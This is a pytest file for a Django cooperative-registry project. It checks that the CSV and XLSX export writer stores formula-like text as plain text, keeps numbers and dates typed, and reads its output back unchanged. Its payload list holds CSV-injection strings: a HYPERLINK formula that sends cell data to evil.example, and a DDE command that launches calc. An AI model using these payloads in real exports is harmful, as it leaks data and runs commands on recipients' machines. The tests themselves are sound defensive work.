"""The one export writer: formula-like text stays text in CSV and XLSX (OWASP's CSV-injection rule), numbers and
dates stay numbers and dates, CSV opens in Excel with its accents (BOM), and what it writes reads back unchanged."""

from __future__ import annotations

import codecs
import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from kopdes.core.exports import (
    Sheet,
    csv_value,
    table_response,
    workbook_bytes,
    write_csv,
    write_table,
    write_xlsx,
)
from kopdes.core.tabular import read_table

# The probe's payloads (issue 10), plus a tab and a carriage return, the two others on OWASP's list.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&B2,"Klik")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
HEADERS = ["teks", "bulat", "desimal", "pecahan", "tanggal"]
NUMBERS = [-5, Decimal("-2.50"), -0.25, datetime.date(2025, 6, 10)]


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(codecs.BOM_UTF8)  # Excel reads UTF-8 only with its BOM
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def xlsx_bytes(headers, rows) -> bytes:
    buffer = io.BytesIO()
    write_xlsx(buffer, headers, rows)
    return buffer.getvalue()


def csv_bytes(headers, rows) -> bytes:
    buffer = io.BytesIO()
    write_csv(buffer, headers, rows)
    return buffer.getvalue()


def test_csv_puts_a_quote_before_formula_like_text_and_leaves_numbers_alone():
    data = csv_bytes(HEADERS, [[payload, *NUMBERS] for payload in PAYLOADS])
    rows = csv_rows(data)
    assert rows[0] == HEADERS
    assert [row[0] for row in rows[1:]] == ["'" + payload for payload in PAYLOADS]
    assert {tuple(row[1:]) for row in rows[1:]} == {("-5", "-2.50", "-0.25", "2025-06-10")}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Koperasi Desa Merah Putih", "Koperasi Desa Merah Putih"),
        ("Rp -5", "Rp -5"),  # only the first character matters
        ("'0812", "'0812"),  # Excel's own text marker before a digit: left as it is
        ("'=x", "''=x"),  # text that itself begins with '= keeps its quote through the reader
        (None, ""),
        (True, "True"),
        (7, "7"),
    ],
)
def test_csv_value(value, written):
    assert csv_value(value) == written


def test_xlsx_writes_formula_like_text_as_quoted_text_cells_and_numbers_as_numbers():
    data = xlsx_bytes(HEADERS, [[payload, *NUMBERS] for payload in PAYLOADS])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml  # no formula anywhere
    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows(min_row=2))
    # (XML reads a carriage return back as a line feed.)
    assert [row[0].value for row in rows] == [payload.replace("\r", "\n") for payload in PAYLOADS]
    for text, whole, decimal, fraction, date in rows:
        assert text.data_type == "s" and text.data_type != "f"
        assert text.quotePrefix  # Excel keeps it text even when the cell is edited
        assert (whole.data_type, whole.value) == ("n", -5)
        assert (decimal.data_type, decimal.value) == ("n", -2.5)
        assert (fraction.data_type, fraction.value) == ("n", -0.25)
        assert date.is_date and date.value == datetime.datetime(2025, 6, 10)


def test_what_is_written_reads_back_unchanged():
    texts = [*PAYLOADS[:5], "'=x", "'0812", "Koperasi Désa"]
    rows = [[text, -5, 2.5] for text in texts]
    for fmt in ("csv", "xlsx"):
        buffer = io.BytesIO()
        write_table(buffer, fmt, ["teks", "bulat", "pecahan"], rows)
        table = read_table(buffer.getvalue(), f"ekspor.{fmt}")
        assert [row["teks"] for _, row in table.rows] == texts, fmt
        numbers = {(row["bulat"], row["pecahan"]) for _, row in table.rows}
        assert numbers == ({("-5", "2.5")} if fmt == "csv" else {(-5, 2.5)}), fmt


def test_xlsx_survives_control_characters_and_aware_datetimes(settings):
    moment = timezone.make_aware(datetime.datetime(2025, 6, 10, 1, 30), datetime.UTC)
    data = xlsx_bytes(["teks", "waktu"], [["Koperasi\x01\x0bPerian", moment]])
    text, when = next(load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2, values_only=True))
    assert text == "KoperasiPerian"
    local = timezone.localtime(moment).replace(tzinfo=None)
    assert when == local  # Excel has no time zones: the local time officials see on the pages
    assert csv_rows(csv_bytes(["waktu"], [[moment]]))[1] == [local.isoformat()]


def test_a_workbook_of_several_sheets_with_awkward_titles():
    data = workbook_bytes(
        [
            Sheet("Per wilayah", ["kode"], [["64.02"]]),
            Sheet("Per wilayah", ["kode"], [["64.02.01"]]),
            Sheet("Desa/kelurahan [semua]: " + "x" * 40, ["nama"], [["=1+1"]]),
        ]
    )
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["Per wilayah", "Per wilayah (2)", "Desa-kelurahan -semua-- xxxxxxx"]
    cell = workbook.worksheets[2]["A2"]
    assert cell.value == "=1+1" and cell.data_type == "s"


@pytest.mark.parametrize(("fmt", "content_type"), [("csv", "text/csv"), ("xlsx", "application/vnd.openxmlformats")])
def test_table_response_is_a_download(fmt, content_type):
    response = table_response(fmt, "ekspor-koperasi", ["nama"], [["=1+1"]])
    assert response["Content-Type"].startswith(content_type)
    assert response["Content-Disposition"] == f'attachment; filename="ekspor-koperasi.{fmt}"'
    assert read_table(response.content, f"x.{fmt}").rows == [(2, {"nama": "=1+1"})]
